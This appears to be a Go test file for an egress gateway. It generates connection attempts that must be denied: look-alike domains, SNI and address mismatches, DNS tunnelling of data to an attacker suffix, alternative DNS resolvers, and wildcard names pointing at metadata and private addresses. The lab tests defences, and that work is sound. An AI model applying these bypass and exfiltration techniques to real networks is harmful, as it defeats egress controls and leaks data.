//go:build linux

package lab

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"slices"
	"strings"

	"github.com/miekg/dns"

	"tidegate.io/tidegate/egress"
)

// NearMisses returns connections that are almost permitted, and the ways out that are tried when one may not pass. All
// of them must be stopped, each for one of the reasons it names; without a gateway all of them must arrive.
func NearMisses(z *Zone, policy *egress.Policy) []Case {
	m := &misses{boot: boot{zone: z, policy: policy}}
	m.https = append(names(policy, egress.HTTPS, 443), m.wildInstances()...)
	m.https = slices.DeleteFunc(m.https, func(n string) bool { return len(z.Addrs(n)) < 2 })
	m.http = names(policy, egress.HTTP, 80)
	m.lookAlikes()
	m.serverNames()
	m.hellos()
	m.otherAddresses()
	m.otherPorts()
	m.otherProtocols()
	m.requests()
	m.datagrams()
	m.resolvers()
	m.dnsNames()
	m.packets()
	m.guarded()
	m.apiServer()
	return m.cases
}

// misses gathers near misses.
type misses struct {
	boot
	https []string // permitted on 443, with addresses in both families
	http  []string // permitted on 80
}

// The reasons that a denial may have, by what is known when it falls. Where the DNS of a cluster is seen, a connection to
// an address that no permitted name has does not get as far as to show a name.
var (
	wrongName    = []egress.Reason{egress.NameNotAllowed}
	wrongAddress = []egress.Reason{egress.AddressUnknown, egress.NameNotAllowed, egress.AddressNotBound}
	unbound      = []egress.Reason{egress.AddressUnknown, egress.AddressNotBound, egress.AnswerLacksAddress}
	noRule       = []egress.Reason{egress.NoRule}
	wrongPort    = []egress.Reason{egress.NoRule, egress.AddressUnknown, egress.PortNotAllowed}
)

// deny adds a case. Where no rule has the transport's port at all, that is the reason before any other.
func (m *misses) deny(group, name string, why []egress.Reason, run func(ctx context.Context, t *Try) error) {
	m.cases = append(m.cases, Case{Group: group, Name: name, Deny: why, Run: run})
}

// denyTCP adds a case over TCP to a port: where no rule judges that port, its SYN is stopped for want of a rule.
func (m *misses) denyTCP(port uint16, group, name string, why []egress.Reason, run func(ctx context.Context, t *Try) error) {
	if !m.judged(port) {
		why = noRule
	}
	m.deny(group, name, why, run)
}

// judged reports whether connections to port show what they want before they are decided.
func (m *misses) judged(port uint16) bool {
	for _, r := range m.policy.Rules() {
		for _, e := range r.To {
			if e.Proto.Named() && e.Ports.Has(port) {
				return true
			}
		}
	}
	return false
}

// open reports whether the policy lets this go without looking at it, and so it is no miss.
func (m *misses) open(p egress.Proto, to netip.AddrPort) bool {
	src := netip.AddrPortFrom(clientAddr(to.Addr().Is6()), 40000)
	return m.policy.Decide(egress.Conn{Proto: p, Src: src, Dst: to}).Action == egress.Allow
}

// isAPI reports whether name is that of a cluster's API server.
func (m *misses) isAPI(name string) bool {
	return slices.ContainsFunc(m.policy.Clusters(), func(c egress.Cluster) bool { return c.APIServer.String() == name })
}

// base are the names that the look-alikes look like: some that are permitted or, if nothing is, what others permit.
func (m *misses) base() []string {
	base := []string{"mcr.microsoft.com", "login.microsoftonline.com", "management.azure.com"}
	for _, n := range m.https {
		if len(base) < 8 && !slices.Contains(base, n) {
			base = append(base, n)
		}
	}
	return slices.DeleteFunc(base, func(n string) bool { return len(m.https) > 0 && !slices.Contains(m.https, n) })
}

// wildInstances are instances of the patterns with a star.
func (m *misses) wildInstances() []string {
	var found []string
	for _, r := range m.policy.Rules() {
		for _, e := range r.To {
			if p, ok := e.Host.(egress.Pattern); ok && e.Proto == egress.HTTPS && e.Ports.Has(443) {
				if _, exact := p.Exact(); !exact {
					found = append(found, instances(p, m.policy.Clusters())...)
				}
			}
		}
	}
	return found
}

// target is where a permitted name is: addresses as the node resolves them, or where they would be.
func (t *Try) target(ctx context.Context, name string, v6 bool, port uint16) netip.AddrPort {
	for range 3 { // a busy machine loses questions, and an address that was not asked for is denied
		if addr, err := t.resolve(ctx, name, v6); err == nil {
			return netip.AddrPortFrom(addr, port)
		} else if errors.Is(err, errNoSuchName) {
			break
		}
	}
	return netip.AddrPortFrom(t.Lab.Zone.addr(name, v6), port)
}

// addr is one address of name in a family; without one there, one of the other.
func (z *Zone) addr(name string, v6 bool) netip.Addr {
	addrs := z.Addrs(name)
	for _, a := range addrs {
		if a.Is6() == v6 {
			return a
		}
	}
	return addrs[0]
}

// similar are names that look like name, sit beside, above or below it, and are not permitted.
func (m *misses) similar(name string) []string {
	first, rest, _ := strings.Cut(name, ".")
	candidates := []string{
		"evil" + name,
		"evil-" + name,
		name + "." + evilSuffix,
		name + ".co",
		strings.Replace(name, ".", "-", 1) + "." + evilSuffix,
		"www." + name,
		"_dns." + name,
		first + "x." + rest,
		first + "." + first + "x." + rest,
		"x" + rest,
		rest,
		first[:len(first)-1] + "." + rest,
		"xn--" + first + "-9za." + rest,
		strings.ReplaceAll(name, "o", "0"),
		"on." + name + "." + evilSuffix,
	}
	return slices.DeleteFunc(candidates, func(s string) bool {
		n, err := egress.ParseName(s)
		return err != nil || m.policy.Permits(clientAddr(false), n) || s == name || strings.Count(s, ".") < 1 || !m.zone.Exists(s)
	})
}

// lookAlikes: the name is the attacker's, at his own address, or at an address that a permitted name has as well.
func (m *misses) lookAlikes() {
	for i, base := range m.base() {
		for j, evil := range m.similar(base) {
			v6 := (i+j)%2 == 1
			m.denyTCP(443, "look-alike names", fmt.Sprintf("shows %s at its own address over %s", evil, family(v6)), wrongAddress, func(ctx context.Context, t *Try) error {
				return t.sendHello(ctx, netip.AddrPortFrom(t.Lab.Zone.addr(evil, v6), 443), sni(evil).record())
			})
			if i < 3 {
				m.denyTCP(443, "look-alike names", fmt.Sprintf("shows %s at an address of %s over %s", evil, base, family(!v6)), wrongName, func(ctx context.Context, t *Try) error {
					return t.sendHello(ctx, t.target(ctx, base, !v6, 443), sni(evil).record())
				})
			}
		}
	}
}

// otherAddresses: the name is permitted, the address belongs to somebody else.
func (m *misses) otherAddresses() {
	base := m.base()
	foreign := []string{"vm." + evilSuffix, "c2." + evilSuffix}
	for i, name := range base {
		for _, v6 := range []bool{false, true} {
			m.denyTCP(443, "other addresses", fmt.Sprintf("shows %s at an attacker's address over %s", name, family(v6)), unbound, func(ctx context.Context, t *Try) error {
				return t.sendHello(ctx, netip.AddrPortFrom(t.Lab.Zone.addr(foreign[i%2], v6), 443), sni(name).record())
			})
			other := base[(i+1)%len(base)]
			if slices.Equal(m.zone.Addrs(other), m.zone.Addrs(name)) || m.isAPI(other) {
				continue // an API server takes every permitted name, for live patching shows another's
			}
			m.denyTCP(443, "other addresses", fmt.Sprintf("shows %s at an address of %s over %s", name, other, family(v6)), unbound, func(ctx context.Context, t *Try) error {
				return t.sendHello(ctx, t.target(ctx, other, v6, 443), sni(name).record())
			})
		}
	}
	for _, to := range []string{
		"20.99.99.99", "8.8.8.8", "1.1.1.1", "40.76.4.15", "2002:1463:6363::1", "64:ff9b::1463:6363", "2001:0:1463:6363::1", "2606:4700::1111",
	} {
		to := netip.AddrPortFrom(netip.MustParseAddr(to), 443)
		m.denyTCP(443, "other addresses", "shows "+base[0]+" at "+to.String(), unbound, func(ctx context.Context, t *Try) error {
			return t.sendHello(ctx, to, sni(base[0]).record())
		})
	}
	for _, name := range m.http {
		for _, v6 := range []bool{false, true} {
			m.denyTCP(80, "other addresses", fmt.Sprintf("asks an attacker's address for %s over %s", name, family(v6)), append(unbound, egress.HostMismatch), func(ctx context.Context, t *Try) error {
				to := netip.AddrPortFrom(t.Lab.Zone.addr(foreign[0], v6), 80)
				return t.say(ctx, to, "GET / HTTP/1.1\r\nHost: "+name+"\r\nX-Lab: "+t.Token+"\r\n\r\n", 1)
			})
		}
	}
}

// otherPorts: name and address are right, the port is not.
func (m *misses) otherPorts() {
	base := m.base()
	for i, port := range tcpPorts {
		name, v6 := base[i%len(base)], i%2 == 1
		if port == 443 || port == 80 || m.open(egress.TCP, netip.AddrPortFrom(m.zone.addr(name, v6), port)) {
			continue
		}
		m.denyTCP(port, "other ports", fmt.Sprintf("speaks TLS to %s on port %d over %s", name, port, family(v6)), wrongPort, func(ctx context.Context, t *Try) error {
			return t.sendHello(ctx, t.target(ctx, name, v6, port), sni(name).record())
		})
		m.denyTCP(port, "other ports", fmt.Sprintf("speaks to an attacker on port %d over %s", port, family(!v6)), wrongPort, func(ctx context.Context, t *Try) error {
			return t.transport(ctx, egress.TCP, netip.AddrPortFrom(t.Lab.Zone.addr("vm."+evilSuffix, !v6), port))
		})
	}
	for _, name := range m.http {
		m.denyTCP(8080, "other ports", "asks "+name+" on port 8080", wrongPort, func(ctx context.Context, t *Try) error {
			return t.say(ctx, t.target(ctx, name, false, 8080), "GET / HTTP/1.1\r\nHost: "+name+"\r\nX-Lab: "+t.Token+"\r\n\r\n", 1)
		})
	}
}

// resolvers: somebody else's DNS, by every way to ask it. What the gateway answers itself never gets there.
func (m *misses) resolvers() {
	group := "other resolvers"
	for _, server := range []string{"8.8.8.8", "1.1.1.1", "9.9.9.9", "168.63.129.16", "20.66.66.66", "2001:4860:4860::8888", "2606:4700:4700::1111"} {
		addr := netip.MustParseAddr(server)
		for _, network := range []string{"udp", "tcp"} {
			m.deny(group, fmt.Sprintf("asks %s by %s for an unlisted name", server, strings.ToUpper(network)), []egress.Reason{egress.NameNotResolvable}, func(ctx context.Context, t *Try) error {
				return t.ask(ctx, network, netip.AddrPortFrom(addr, 53), t.Token+"."+evilSuffix, dns.TypeA)
			})
		}
		m.denyTCP(853, group, "asks "+server+" by DNS over TLS", noRule, func(ctx context.Context, t *Try) error {
			return t.sendDoT(ctx, netip.AddrPortFrom(addr, 853))
		})
		for _, port := range []uint16{784, 853, 8853} {
			to := netip.AddrPortFrom(addr, port)
			if m.open(egress.UDP, to) {
				continue
			}
			m.deny(group, fmt.Sprintf("asks %s by DNS over QUIC on port %d", server, port), noRule, func(ctx context.Context, t *Try) error {
				return t.transport(ctx, egress.UDP, to)
			})
		}
	}
	for name, server := range map[string]string{"dns.google": "8.8.8.8", "one.one.one.one": "1.1.1.1", "dns.quad9.net": "9.9.9.9", "cloudflare-dns.com": "2606:4700:4700::1111"} {
		m.denyTCP(443, group, "asks "+name+" by DNS over HTTPS", wrongAddress, func(ctx context.Context, t *Try) error {
			return t.sendHello(ctx, netip.AddrPortFrom(netip.MustParseAddr(server), 443), sni(name).record())
		})
	}
}

// ask sends a question whose name holds the token.
func (t *Try) ask(ctx context.Context, network string, server netip.AddrPort, name string, qtype uint16) error {
	t.prove([]byte(t.Token))
	m, err := t.Node.Ask(ctx, network, server, name, qtype)
	if err != nil {
		return err
	}
	if m.Rcode != dns.RcodeSuccess {
		return fmt.Errorf("answered %s", dns.RcodeToString[m.Rcode])
	}
	return nil
}

// dnsNames: data that leaves inside the names that are asked for, through the cluster's own resolver.
func (m *misses) dnsNames() {
	why := []egress.Reason{egress.NameNotResolvable}
	group := "DNS names"
	for _, qtype := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeNULL, dns.TypeMX, dns.TypeSRV, dns.TypeHTTPS, dns.TypeCNAME, dns.TypeANY} {
		for _, network := range []string{"udp", "tcp"} {
			m.deny(group, fmt.Sprintf("looks up %s of an unlisted name by %s", dns.TypeToString[qtype], strings.ToUpper(network)), why, func(ctx context.Context, t *Try) error {
				return t.ask(ctx, network, resolver, t.Token+"."+evilSuffix, qtype)
			})
			// Nobody is answered these types, whatever the name.
			m.cases[len(m.cases)-1].Quiet = qtype == dns.TypeNULL || qtype == dns.TypeANY
		}
	}
	label := strings.Repeat("mzxw6ytboi4dsnzq", 3)
	m.deny(group, "tunnels 150 bytes in the labels of a name", why, func(ctx context.Context, t *Try) error {
		return t.ask(ctx, "udp", resolver, strings.Repeat(label+".", 3)+t.Token+"."+evilSuffix, dns.TypeTXT)
	})
	for _, name := range m.base() {
		child := "a." + name
		if n, err := egress.ParseName(child); err != nil || m.policy.Permits(clientAddr(false), n) {
			continue
		}
		m.deny(group, "tunnels in a name below "+name, why, func(ctx context.Context, t *Try) error {
			return t.ask(ctx, "udp", resolver, t.Token+"."+name, dns.TypeTXT)
		})
		m.deny(group, "looks up a name that begins with "+name, why, func(ctx context.Context, t *Try) error {
			return t.ask(ctx, "udp", resolver, name+"."+t.Token+".io", dns.TypeA)
		})
	}
}

// apiServer: what is permitted towards the cluster's own API server is not towards another.
func (m *misses) apiServer() {
	group := "API servers"
	for _, c := range m.policy.Clusters() {
		name := c.APIServer.String()
		if name == "" || len(m.zone.Addrs(name)) < 2 {
			continue
		}
		_, rest, _ := strings.Cut(name, ".")
		other := "other-0a1b2c3d." + rest
		if n, err := egress.ParseName(other); err != nil || m.policy.Permits(clientAddr(false), n) {
			continue // 21Vianet's rules permit every name below azk8s.cn
		}
		for _, v6 := range []bool{false, true} {
			at := func(name string) netip.AddrPort { return netip.AddrPortFrom(m.zone.addr(name, v6), 443) }
			m.denyTCP(443, group, "speaks to another cluster's over "+family(v6), wrongAddress, func(ctx context.Context, t *Try) error {
				return t.sendHello(ctx, at(other), sni(other).record())
			})
			m.denyTCP(443, group, "shows its own one's name to another over "+family(v6), unbound, func(ctx context.Context, t *Try) error {
				return t.sendHello(ctx, at(other), sni(name).record())
			})
			m.denyTCP(443, group, "shows no name to another over "+family(v6), []egress.Reason{egress.AddressUnknown, egress.NoServerName}, func(ctx context.Context, t *Try) error {
				return t.sendHello(ctx, at(other), hello{}.record())
			})
			m.denyTCP(443, group, "shows another's name to its own over "+family(v6), wrongName, func(ctx context.Context, t *Try) error {
				return t.sendHello(ctx, t.target(ctx, name, v6, 443), sni(other).record())
			})
			if !m.open(egress.TCP, netip.AddrPortFrom(at(name).Addr(), 10250)) {
				m.denyTCP(10250, group, "speaks to its own on port 10250 over "+family(v6), wrongPort, func(ctx context.Context, t *Try) error {
					return t.sendHello(ctx, t.target(ctx, name, v6, 10250), sni(name).record())
				})
			}
		}
	}
	for _, shown := range []string{"kubernetes", "kubernetes.default.svc", "kubernetes.default.svc.cluster.local"} {
		base := m.base()[0]
		m.denyTCP(443, group, "shows "+shown+" to "+base, wrongName, func(ctx context.Context, t *Try) error {
			return t.sendHello(ctx, t.target(ctx, base, false, 443), sni(shown).record())
		})
	}
}

// guarded: a permitted wildcard below which somebody else can make names, one of which leads inside.
func (m *misses) guarded() {
	var wild egress.Pattern
	for _, r := range m.policy.Rules() {
		for _, e := range r.To {
			if p, ok := e.Host.(egress.Pattern); ok && e.Proto == egress.HTTPS && strings.HasPrefix(p.String(), "*.") && e.Ports.Has(443) {
				wild = p
			}
		}
	}
	if wild.String() == "" {
		return
	}
	why := []egress.Reason{egress.GuardedAddress, egress.AddressUnknown, egress.AddressNotBound}
	for _, addr := range []string{
		"169.254.169.254", "168.63.129.16", "100.64.0.1", "172.16.0.1", "192.0.0.8", "192.0.2.1", "192.88.99.1", "192.168.0.1", "198.18.0.1", "198.51.100.1", "203.0.113.1",
	} {
		name := "a-" + strings.ReplaceAll(addr, ".", "-") + strings.TrimPrefix(wild.String(), "*")
		m.denyTCP(443, "guarded addresses", "follows "+name+" to where it leads", why, func(ctx context.Context, t *Try) error {
			return t.sendHello(ctx, t.target(ctx, name, false, 443), sni(name).record())
		})
	}
}
